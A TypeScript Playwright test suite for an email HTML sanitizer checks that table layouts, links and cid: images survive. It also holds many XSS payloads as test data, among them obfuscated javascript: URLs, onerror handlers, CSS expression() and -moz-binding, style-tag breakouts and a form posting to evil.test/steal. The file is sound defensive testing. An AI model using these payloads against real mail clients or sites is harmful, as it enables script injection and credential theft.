import { test, expect } from '@playwright/test';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { JSDOM } from 'jsdom';
import fc from 'fast-check';
import { createSanitizer, type Sanitizer, type SanitizeOptions } from '../../../src/server/mail/sanitize.ts';

const noCid: SanitizeOptions = { resolveCid: () => null };

let sanitizer: Sanitizer;
test.beforeAll(() => {
  sanitizer = createSanitizer();
});
test.afterAll(() => sanitizer.close());

const clean = (html: string, options: SanitizeOptions = noCid) => sanitizer.sanitize(html, options);

/** Parses a sanitized fragment the way a page's innerHTML would. */
function parse(html: string): HTMLElement {
  const { document } = new JSDOM('<!DOCTYPE html><body></body>').window;
  const container = document.createElement('div');
  container.innerHTML = html;
  return container;
}

test.describe('what email needs is kept', () => {
  test('a layout table keeps its email attributes', async () => {
    const html = '<table width="600" border="0" cellpadding="4" cellspacing="0" align="center" bgcolor="#ffffff">'
      + '<tbody><tr><td valign="top" colspan="2" rowspan="1" height="20" width="50%">Hello</td></tr></tbody></table>';
    const td = parse(await clean(html)).querySelector('td');
    const table = parse(await clean(html)).querySelector('table');
    expect(table?.getAttribute('cellpadding')).toBe('4');
    expect(table?.getAttribute('cellspacing')).toBe('0');
    expect(table?.getAttribute('bgcolor')).toBe('#ffffff');
    expect(table?.getAttribute('align')).toBe('center');
    expect(table?.getAttribute('border')).toBe('0');
    expect(td?.getAttribute('valign')).toBe('top');
    expect(td?.getAttribute('colspan')).toBe('2');
    expect(td?.getAttribute('rowspan')).toBe('1');
    expect(td?.getAttribute('width')).toBe('50%');
    expect(td?.textContent).toBe('Hello');
  });

  test('text formatting, headings, lists, font and center survive', async () => {
    const html = '<center><h1>T</h1><font color="red" face="Arial" size="2"><b>b</b><i>i</i><u>u</u><strong>s</strong></font>'
      + '<ul><li>one</li></ul><ol start="3"><li>two</li></ol><blockquote>q</blockquote><hr><br></center>';
    const out = await clean(html);
    expect(out).toBe(html);
  });

  test('relative and static positions are kept', async () => {
    const out = parse(await clean('<p style="position: relative; top: 2px">a</p><p style="position:static">b</p>'));
    expect([...out.querySelectorAll('p')].map((p) => p.getAttribute('style'))).toEqual(['position:relative; top:2px', 'position:static']);
  });

  test('inline styles are kept', async () => {
    const out = parse(await clean('<p style="color: #333; font-family: Arial, \'Helvetica Neue\', sans-serif; padding: 0 4px !important">x</p>'));
    // css-tree's serialization: what was checked is what is emitted.
    expect(out.querySelector('p')?.getAttribute('style')).toBe('color:#333; font-family:Arial,"Helvetica Neue",sans-serif; padding:0 4px!important');
  });

  test('a style block is kept, with its media queries', async () => {
    const out = await clean('<style>.btn { color: white; background: #0a0 } @media only screen and (max-width: 600px) { td { width: 100% !important } }</style><p class="btn">x</p>');
    const style = parse(out).querySelector('style');
    expect(style?.textContent).toContain('.btn{color:white; background:#0a0}');
    expect(style?.textContent).toContain('@media only screen and (max-width:600px){td{width:100%!important}}');
    expect(parse(out).querySelector('p')?.className).toBe('btn');
  });

  test('a whole document becomes a fragment: head styles first, then the body content', async () => {
    const out = await clean('<!DOCTYPE html><html><head><title>Welcome</title><style>p{margin:0}</style></head><body><p>Hi</p></body></html>');
    expect(out).toBe('<style>p{margin:0}</style><p>Hi</p>');
  });

  test('the body background and style survive on a wrapper', async () => {
    const out = await clean('<html><body bgcolor="#eeeeee" style="font-family: Arial"><p>Hi</p></body></html>');
    expect(out).toBe('<div style="background-color:#eeeeee; font-family:Arial"><p>Hi</p></div>');
  });

  test('entities stay what they were: escaped markup stays text, special characters stay characters', async () => {
    const out = await clean('<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; &copy; &nbsp;&eacute; &#128512;</p>');
    expect(out).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; © &nbsp;é 😀</p>');
    expect(parse(out).querySelector('script')).toBeNull();
  });

  test('role is kept with the aria-* attributes, so a layout table stays presentational for accessibility audits', async () => {
    const out = await clean('<table role="presentation" aria-label="layout"><tr><td>x</td></tr></table>');
    expect(out).toBe('<table role="presentation" aria-label="layout"><tbody><tr><td>x</td></tr></tbody></table>');
  });
});

test.describe('links', () => {
  test('a link keeps its exact href, query separators and percent-encoding included', async () => {
    const hrefs = [
      'https://app.example.test/verify?token=a%2Fb%3D%3D&user=42&next=%2Fhome#frag',
      'https://app.example.test/r?u=https%3A%2F%2Fx.test%2F%3Fa%3D1%26b%3D2&amp=1',
      'https://exämple.test/päth?q=ü&x=%E2%9C%93',
      'mailto:someone@example.test?subject=Hi%20there&body=a%26b',
      'tel:+1-555-0100',
      '/relative/path?x=1&y=2',
    ];
    for (const href of hrefs) {
      const { document } = new JSDOM('').window;
      const a = document.createElement('a');
      a.setAttribute('href', href);
      a.textContent = 'Confirm your address';
      const link = parse(await clean(a.outerHTML)).querySelector('a');
      expect(link?.getAttribute('href'), href).toBe(href);
      expect(link?.textContent).toBe('Confirm your address');
    }
  });

  test('a raw ampersand in an href reaches the DOM as one ampersand', async () => {
    const out = await clean('<a href="https://x.test/?a=1&b=2&amp;c=3">go</a>');
    expect(parse(out).querySelector('a')?.getAttribute('href')).toBe('https://x.test/?a=1&b=2&c=3');
    expect(out).toContain('href="https://x.test/?a=1&amp;b=2&amp;c=3"');
  });

  test('a link gains target="_blank" and rel="noopener noreferrer", replacing its own', async () => {
    const a = parse(await clean('<a href="https://x.test/" target="_self" rel="opener">x</a>')).querySelector('a');
    expect(a?.getAttribute('target')).toBe('_blank');
    expect(a?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  for (const href of [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' \tjava\nscript:alert(1)',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
    '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/png;base64,iVBORw0KGgo=',
    'file:///etc/passwd',
  ]) {
    test(`a link to ${JSON.stringify(href)} loses its href and keeps its text`, async () => {
      const a = parse(await clean(`<a href="${href}">Click</a>`)).querySelector('a');
      expect(a?.hasAttribute('href')).toBe(false);
      expect(a?.textContent).toBe('Click');
      expect(a?.hasAttribute('target')).toBe(false);
    });
  }
});

test.describe('images', () => {
  test('https, http and raster data: images are kept', async () => {
    const sources = ['https://cdn.example.test/logo.png', 'http://cdn.example.test/pixel.gif', 'data:image/png;base64,iVBORw0KGgo=', 'data:image/jpeg;base64,/9j/4AAQ'];
    for (const src of sources) {
      expect(parse(await clean(`<img src="${src}" alt="x" width="10" height="10">`)).querySelector('img')?.getAttribute('src')).toBe(src);
    }
  });

  for (const src of ['data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+', 'data:text/html,<script>alert(1)</script>', 'javascript:alert(1)', '/relative.png', 'x', 'ftp://x.test/a.png']) {
    test(`an image with src ${JSON.stringify(src)} loses its src`, async () => {
      const img = parse(await clean(`<img src="${src}" alt="logo">`)).querySelector('img');
      expect(img?.hasAttribute('src')).toBe(false);
      expect(img?.getAttribute('alt')).toBe('logo');
    });
  }

  test('srcset is removed', async () => {
    const img = parse(await clean('<img src="https://x.test/a.png" srcset="https://evil.test/a.png 2x">')).querySelector('img');
    expect(img?.hasAttribute('srcset')).toBe(false);
    expect(img?.getAttribute('src')).toBe('https://x.test/a.png');
  });

  test('a cid: image is rewritten to what resolveCid returns', async () => {
    const seen: string[] = [];
    const options = { resolveCid: (cid: string) => (seen.push(cid), cid === 'logo@mail.test' ? '/messages/msg_1/attachments/att_1' : null) };
    const img = parse(await clean('<img src="cid:logo@mail.test" alt="Logo">', options)).querySelector('img');
    expect(img?.getAttribute('src')).toBe('/messages/msg_1/attachments/att_1');
    expect(seen).toEqual(['logo@mail.test']);
  });

  test('a percent-encoded cid: reference is decoded before it is resolved', async () => {
    const options = { resolveCid: (cid: string) => (cid === 'image 001.png@01D' ? 'https://files.test/1' : null) };
    expect(parse(await clean('<img src="CID:image%20001.png@01D">', options)).querySelector('img')?.getAttribute('src')).toBe('https://files.test/1');
  });

  test('an unresolvable cid: image loses its src and keeps its alt text', async () => {
    const img = parse(await clean('<img src="cid:missing@x" alt="Logo">')).querySelector('img');
    expect(img?.hasAttribute('src')).toBe(false);
    expect(img?.getAttribute('alt')).toBe('Logo');
  });

  test('a resolver answering a script URL is not trusted', async () => {
    const img = parse(await clean('<img src="cid:a">', { resolveCid: () => 'javascript:alert(1)' })).querySelector('img');
    expect(img?.hasAttribute('src')).toBe(false);
  });

  test('a cid: background in inline CSS and in a background attribute is resolved too', async () => {
    const options = { resolveCid: (cid: string) => (cid === 'bg' ? 'https://files.test/bg' : null) };
    const out = parse(await clean('<table background="cid:bg"><tr><td style="background-image: url(cid:bg)">x</td></tr></table>', options));
    expect(out.querySelector('table')?.getAttribute('background')).toBe('https://files.test/bg');
    expect(out.querySelector('td')?.getAttribute('style')).toBe('background-image:url(https://files.test/bg)');
  });

  test('concurrent calls each resolve cid: through their own options', async () => {
    const results = await Promise.all(['a', 'b', 'c'].map((name) => clean('<img src="cid:x">', { resolveCid: () => `https://files.test/${name}` })));
    expect(results).toEqual(['a', 'b', 'c'].map((name) => `<img src="https://files.test/${name}">`));
  });
});

test.describe('dangerous constructs are removed', () => {
  test('a script is removed with its content', async () => {
    expect(await clean('<p>a</p><script>alert(1)</script><SCRIPT SRC=https://x.test/x.js></SCRIPT><p>b</p>')).toBe('<p>a</p><p>b</p>');
  });

  test('every event handler attribute is removed', async () => {
    const out = await clean('<img src="https://x.test/a.png" onerror="alert(1)" onload="alert(2)"><p onclick="alert(3)" onmouseover="alert(4)">x</p><body onload="alert(5)"><table onfocus="alert(6)"><tr><td>y</td></tr></table>');
    expect(out).not.toMatch(/\bon[a-z]+=/i);
    expect(out).toContain('<p>x</p>');
  });

  test('forms and their controls are removed, their text kept', async () => {
    const out = await clean('<form action="https://evil.test/steal" method="post"><label>Name</label><input name="n" value="v"><select><option>o</option></select><textarea>t</textarea><button formaction="javascript:alert(1)">Send</button></form>');
    const parsed = parse(out);
    expect(parsed.querySelector('form, input, select, option, textarea, button, label')).toBeNull();
    expect(out).not.toContain('evil.test');
    expect(out).not.toContain('javascript');
    expect(parsed.textContent).toContain('Send');
  });

  test('frames, objects, embeds and applets are removed', async () => {
    const out = await clean('<iframe src="https://evil.test/"></iframe><frameset><frame src="x"></frameset><object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet><p>ok</p>');
    expect(parse(out).querySelector('iframe, frame, frameset, object, embed, applet')).toBeNull();
    expect(out).toContain('<p>ok</p>');
  });

  test('base, meta refresh and link are removed from a whole document', async () => {
    const out = await clean('<html><head><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel="stylesheet" href="https://evil.test/x.css"></head><body><a href="page">x</a></body></html>');
    expect(out).not.toMatch(/<(base|meta|link)\b/i);
    expect(out).not.toContain('evil.test');
  });

  test('svg and math are removed with their content', async () => {
    const out = await clean('<svg onload="alert(1)"><script>alert(2)</script><image href="x"/></svg><math><mtext><img src=x onerror=alert(3)></mtext></math><p>ok</p>');
    expect(out).toBe('<p>ok</p>');
  });

  test('id, name and data-* attributes are removed so the host page cannot be clobbered', async () => {
    const out = await clean('<img src="https://x.test/a.png" id="cookie" name="getElementById" data-toggle="modal" aria-label="logo">');
    expect(out).toBe('<img src="https://x.test/a.png" aria-label="logo">');
  });

  test('comments are removed, Outlook conditional comments included', async () => {
    expect(await clean('<p>a<!-- x --></p><!--[if mso]><table><tr><td><![endif]--><p>b</p>')).toBe('<p>a</p><p>b</p>');
  });

  const dangerousCss = [
    'width: expression(alert(1))',
    'width: expr/**/ession(alert(1))',
    'width: expr\\65 ssion(alert(1))',
    'behavior: url(x.htc)',
    '-moz-binding: url(https://evil.test/xss.xml#x)',
    'background: url(javascript:alert(1))',
    'background: url("java\\9 script:alert(1)")',
    'background-image: url(vbscript:msgbox(1))',
    'background: url(data:text/html;base64,PHNjcmlwdD4=)',
    'background: url(data:image/svg+xml;base64,PHN2Zz4=)',
    'background: url(/relative.png)',
    'background: image-set("javascript:alert(1)" 1x)',
    'list-style: url(&#106;avascript:alert(1))',
    'position: fixed',
    'position: absolute !important',
    'position: sticky',
    '@import url(https://evil.test/x.css)',
  ];
  for (const css of dangerousCss) {
    test(`the declaration ${JSON.stringify(css)} is dropped and the safe ones stay`, async () => {
      const p = parse(await clean(`<p style='color: red; ${css}; margin: 0'>x</p>`)).querySelector('p');
      expect(p?.getAttribute('style')).toBe('color:red; margin:0');
    });
  }

  test('a style block loses @import, script URLs and expressions but keeps the rest', async () => {
    const out = await clean('<style>@import url(https://evil.test/x.css); @charset "utf-8"; a { color: blue; background: url(javascript:alert(1)) } p { width: expression(alert(1)); margin: 0 } @font-face { font-family: X; src: url(https://fonts.test/x.woff2) format("woff2") } @page { margin: 0 }</style><p>x</p>');
    expect(parse(out).querySelector('style')?.textContent).toBe('a{color:blue}\np{margin:0}\n@font-face{font-family:X; src:url(https://fonts.test/x.woff2)format("woff2")}');
  });

  test('markup inside a style block ends it as in a browser, and what follows is sanitized as HTML', async () => {
    const out = await clean('<style>a[title="</style><img src=x onerror=alert(1)>"] { color: red }</style><p>x</p>');
    expect(out).not.toMatch(/onerror/i);
    expect(parse(out).querySelector('img')?.hasAttribute('src')).toBe(false);
  });

  test('a cid: URL resolved into a style block cannot close the element', async () => {
    const options = { resolveCid: () => 'https://files.test/</style><img src=x onerror=alert(1)>' };
    const out = await clean('<style>p { color: red } td { background: url(cid:bg) }</style><p>x</p>', options);
    expect(out).not.toContain('</style><img');
    const parsed = parse(out);
    expect(parsed.querySelector('img')).toBeNull();
    expect([...parsed.querySelectorAll('style')].map((style) => style.textContent)).toEqual(['p{color:red}']);
  });
});

test('a link the parser nests in another link (around a table) comes out as the two links a browser reads back, so sanitizing is idempotent', async () => {
  // Found by the property below (seed -176786892): the adoption agency puts the inner <a> inside the outer one.
  for (const input of ['<a href="https://x.test/?a=1&b=2"><table><a href="javascript:alert(1)">', '<a href="https://x.test/"><table><a href="https://y.test/">t</a></table></a>']) {
    const once = await clean(input);
    expect(await clean(once), input).toBe(once);
    expect(parse(once).querySelector('a a'), input).toBeNull();
  }
});

test('sanitizing twice gives the same result, and never leaves a script, a handler or a script URL (property)', async () => {
  const pieces = [
    '<p>', '</p>', '<a href="javascript:alert(1)">', '<a href="https://x.test/?a=1&b=2">', '</a>', '<img src=x onerror=alert(1)>',
    '<svg>', '</svg>', '<math>', '<mtext>', '<table>', '<td>', '<style>', '</style>', '<script>', '</script>', '<!--', '-->',
    '<noscript>', '<title>', '<textarea>', '<template>', '<form>', '<select>', '"', "'", '>', '<', '&lt;', '&amp;', 'x',
    ' style="background:url(javascript:1)"', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', '<![CDATA[', ']]>', '<?xml ?>',
  ];
  await fc.assert(
    fc.asyncProperty(fc.array(fc.constantFrom(...pieces), { maxLength: 25 }), async (parts) => {
      const once = await clean(parts.join(''));
      const twice = await clean(once);
      expect(twice).toBe(once);
      const parsed = parse(once);
      expect(parsed.querySelector('script, iframe, form, svg, math, template, noscript, textarea')).toBeNull();
      for (const element of parsed.querySelectorAll('*')) {
        for (const attribute of element.attributes) {
          expect(attribute.name).not.toMatch(/^on/i);
          expect(attribute.value).not.toMatch(/^\s*javascript:/i);
        }
      }
    }),
    { numRuns: 150 },
  );
});

test('a closed sanitizer refuses to work and says how to get a new one', async () => {
  const own = createSanitizer();
  expect(await own.sanitize('<p>x</p>', noCid)).toBe('<p>x</p>');
  own.close();
  await expect(own.sanitize('<p>x</p>', noCid)).rejects.toThrow(/after close\(\).*createSanitizer\(\)/);
});

test('sanitizing many emails in one loop does not keep their documents alive', async () => {
  setFlagsFromString('--expose-gc');
  const gc = runInNewContext('gc') as () => void;
  const own = createSanitizer();
  const html = '<table>' + '<tr><td style="color:red"><a href="https://x.test/?a=1&b=2">x</a><img src="cid:a"></td></tr>'.repeat(200) + '</table>';
  await own.sanitize(html, noCid);
  gc();
  const before = process.memoryUsage().heapUsed;
  for (let i = 0; i < 100; i++) await own.sanitize(html, noCid);
  gc();
  const grownMb = (process.memoryUsage().heapUsed - before) / 1e6;
  own.close();
  // Retained documents cost about 1.4 MB each here: 100 of them would be about 140 MB.
  expect(grownMb).toBeLessThan(50);
});

test('markup nested 100 000 deep, known or unknown elements, keeps its text and never nests the output deeper than 256', async () => {
  for (const open of ['<div>', '<x-unknown>']) {
    const out = await clean(`${open.repeat(100_000)}deep text`);
    expect(out).toContain('deep text');
    let depth = 0;
    let deepest = 0;
    for (const tag of out.matchAll(/<(\/?)[a-z]/g)) {
      depth += tag[1] === '/' ? -1 : 1;
      deepest = Math.max(deepest, depth);
    }
    expect(deepest, open).toBeLessThanOrEqual(256);
  }
});

test('CSS nested deeper than its parser can follow is dropped, not a failure', async () => {
  expect(await clean(`<p style="color:red; width:${'calc('.repeat(50_000)}1px">x</p>`)).toBe('<p style="color:red">x</p>');
  expect(await clean(`<style>${'@media screen{'.repeat(50_000)}a{color:red}</style><p>x</p>`)).toBe('<p>x</p>');
});

test('a paragraph the parser fosters into a paragraph (out of a table inside it) reads back as itself once sanitized', async () => {
  const once = await clean('<p><table><p>');
  expect(await clean(once)).toBe(once);
  expect(parse(once).querySelector('p p')).toBeNull();
});
